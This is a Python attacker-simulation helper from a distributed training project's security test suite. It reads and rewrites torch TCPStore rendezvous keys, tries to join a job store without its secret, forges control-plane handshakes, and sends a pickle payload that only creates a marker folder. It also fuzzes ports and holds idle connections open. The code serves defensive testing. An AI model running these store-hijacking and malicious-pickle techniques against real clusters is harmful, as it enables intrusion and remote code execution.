"""An outsider on the job's network: what the attack suite runs on the other host (test_attacks.py).

It knows what anybody on the network can learn: the hosts' listening ports (a port scan) and the
command lines of the job (``ps`` shows the run id). It holds no secret. Two modes:

``probe TARGETS_JSON RUN_ID MARKER_DIR REPORT [--garbage]``
    For every target (``{"host", "port", "role"}``), replay the issue's attack: read torch-store keys
    (ringtrain's old and new names, and every key a store lists), overwrite rank 0's control-plane
    address, join the job store without the secret, connect with any token it read (the old
    control-plane hello) or a forged proof (the new one), and send a pickle that would create
    ``MARKER_DIR/pwned-<port>`` if any process unpickled it. ``--garbage`` adds random bytes, an HTTP
    request and a torch-store message with a huge length. Writes what worked to REPORT (JSON).

``idle HOST:PORT COUNT READY RELEASE REPORT``
    Open COUNT connections that never send a byte, write READY, wait for the file RELEASE, then
    write how many of them the server still held open.
"""

from __future__ import annotations

import contextlib
import datetime
import json
import os
import pickle
import select
import signal
import socket
import struct
import sys
import time
from pathlib import Path


def _write(path: Path, data: dict) -> None:
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_text(json.dumps(data, indent=1))
    os.replace(tmp, path)


class Detonator:
    """Unpickling this creates a folder: the stand-in for "every rank ran its command"."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def _send(host: str, port: int, payload: bytes, wait: float = 1.0) -> bytes:
    """Connect, send ``payload``, return what came back within ``wait`` seconds (or until closed)."""
    received = b""
    try:
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(payload)
            deadline = time.monotonic() + wait
            while time.monotonic() < deadline:
                readable, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
                if not readable:
                    break
                chunk = sock.recv(65536)
                if not chunk:
                    break
                received += chunk
    except OSError:
        pass
    return received


#: How long the torch store client may try one port (it retries forever against some services).
STORE_ATTACK_SECONDS = 20.0


class _StoreAttack:
    """Read and rewrite the rendezvous keys of one port through torch's store protocol, in a child.

    The child has a time limit: torch's store client retries forever against some services that are
    not a TCPStore. It is forked from this process, which has imported torch already (the job store
    attack needs it), rather than a new interpreter that imports it again for every port (2-3 s of CPU
    each). :func:`probe` starts one per port at once, so their time limits run side by side.
    """

    def __init__(self, host: str, port: int, run_id: str) -> None:
        readable, writable = os.pipe()
        self.deadline = time.monotonic() + STORE_ATTACK_SECONDS
        self.pid = os.fork()
        if self.pid == 0:  # the child: attack, write the findings, leave without the parent's clean-up
            code = 1
            try:
                os.close(readable)
                with os.fdopen(writable, "wb") as out:
                    out.write(json.dumps(store_client(host, port, run_id)).encode())
                code = 0
            finally:
                os._exit(code)
        os.close(writable)
        self.source = os.fdopen(readable, "rb", buffering=0)

    def result(self, report: dict) -> list[bytes]:
        """Wait for the child (until its time limit); add its findings to ``report``; the values read."""
        received = b""
        with self.source:
            while True:
                ready, _, _ = select.select([self.source], [], [], max(0.0, self.deadline - time.monotonic()))
                chunk = self.source.read(65536) if ready else b""
                if not chunk:
                    break
                received += chunk
        if time.monotonic() >= self.deadline:
            with contextlib.suppress(ProcessLookupError):
                os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        try:
            found = json.loads(received)
        except ValueError:
            return []
        values = [v.encode() for v in found.pop("values")]
        report.update(found)
        return values


def store_client(host: str, port: int, run_id: str) -> dict:
    """The torch store client's part of the attack (in the child a :class:`_StoreAttack` forks)."""
    import torch.distributed as dist

    report: dict = {"values": []}
    keys = ["ringtrain/gen1/ctrl/token", "ringtrain/gen1/ctrl/addr/0", "ringtrain/gen1/ctrl/addr/1",
            f"ringtrain/{run_id}/attempt0/gen1/ctrl/addr/0", f"ringtrain/{run_id}/attempt0/job_store",
            f"{run_id}/ringtrain/gen1/ctrl/token"]
    try:
        store = dist.TCPStore(host, port, 1, False, timeout=datetime.timedelta(seconds=3),
                              wait_for_workers=False)
        store.check(["probe"])  # a reply: it speaks torch's store protocol
    except Exception:  # noqa: BLE001 - anything else is a refusal
        return report
    report["torch_store"] = True
    listed: list[str] = []
    try:
        listed = [k if isinstance(k, str) else k.decode(errors="replace") for k in store.list_keys()]
    except Exception:  # noqa: BLE001 - older torch, or not allowed
        pass
    report["listed_keys"] = listed
    for key in [*keys, *listed]:
        try:
            if store.check([key]):
                value = store.get(key)
                report["values"].append(value[:64].decode(errors="replace"))
                report.setdefault("read", {})[key] = value[:80].decode(errors="replace")
        except Exception:  # noqa: BLE001
            pass
    for key in keys[1:4]:
        try:
            store.set(key, json.dumps({"node": "outsider", "port": 1, "hosts": ["10.231.0.99"]}))
            report.setdefault("wrote", []).append(key)
        except Exception:  # noqa: BLE001
            pass
    return report


def _job_store_attack(host: str, port: int, report: dict) -> None:
    try:
        from ringtrain.engine import job_store
    except ImportError:  # a ringtrain without a job store (the attack suite also runs against old code)
        return

    for secret in (None, "0" * 64):
        try:
            client = job_store.JobStore(f"{host}:{port}", secret, timeout=3.0)
        except Exception:  # noqa: BLE001 - refused: what should happen
            continue
        report["job_store_joined"] = True
        client.close()


def probe(targets: list[dict], run_id: str, marker_dir: Path, garbage: bool) -> dict:
    import torch.distributed  # noqa: F401 - once, before the store attacks fork their children

    results = {}
    store_attacks = [_StoreAttack(target["host"], int(target["port"]), run_id) for target in targets]
    for target, store_attack in zip(targets, store_attacks):
        host, port = target["host"], int(target["port"])
        report: dict = {"role": target["role"], "torch_store": False, "job_store_joined": False}
        tokens = store_attack.result(report)
        _job_store_attack(host, port, report)
        bomb = pickle.dumps({"m": [Detonator(str(marker_dir / f"pwned-{port}"))], "s": []}, protocol=2)
        framed = struct.pack("<Q", len(bomb)) + bomb
        answers = []
        for token in [*tokens, b"0" * 32]:
            token = token[:32].ljust(32, b"0")
            for rank in (1, 2):
                # the old control plane's hello (magic, token, rank), then a round carrying the pickle
                answers.append(_send(host, port, b"RTCTRL01" + token + struct.pack("<I", rank) + framed))
            # the new one's, with a made-up proof
            answers.append(_send(host, port, b"RTCTRL02" + token + struct.pack("<II", 1, 0) + token + framed))
        answers.append(_send(host, port, bomb))
        answers.append(_send(host, port, framed))
        # An accepted control-plane hello is answered with b"\x01" and a 32-byte proof after the greeting.
        report["ctrl_accepted"] = any(len(a) == 8 + 32 + 33 and a[40:41] == b"\x01" for a in answers)
        if garbage:
            for payload in (os.urandom(4096), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                            b"\x00" + struct.pack("<I", 0x3C85F7CE) + b"\x01" + struct.pack("<Q", 2**62),
                            struct.pack("<Q", 2**62) + os.urandom(64), b"\xff" * 70000):
                _send(host, port, payload, wait=0.5)
        results[f"{host}:{port}"] = report
    return results


def _held_open(sock: socket.socket) -> bool:
    """Whether the server still holds ``sock`` open (whatever it sent, such as a greeting, is read)."""
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
        return False  # end of file: the server closed it
    except BlockingIOError:
        return True
    except OSError:
        return False


def idle(host: str, port: int, count: int, ready: Path, release: Path) -> dict:
    socks = [socket.create_connection((host, port), timeout=10) for _ in range(count)]
    _write(ready, {"opened": len(socks)})
    deadline = time.monotonic() + 900
    while not release.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    still_open = sum(_held_open(sock) for sock in socks)
    for sock in socks:
        sock.close()
    return {"opened": count, "open_at_release": still_open}


def main(argv: list[str]) -> int:
    if argv[0] == "probe":
        targets, run_id, marker_dir, report = json.loads(argv[1]), argv[2], Path(argv[3]), Path(argv[4])
        _write(report, probe(targets, run_id, marker_dir, "--garbage" in argv))
        return 0
    if argv[0] == "idle":
        host, _, port = argv[1].rpartition(":")
        _write(Path(argv[5]), idle(host, int(port), int(argv[2]), Path(argv[3]), Path(argv[4])))
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
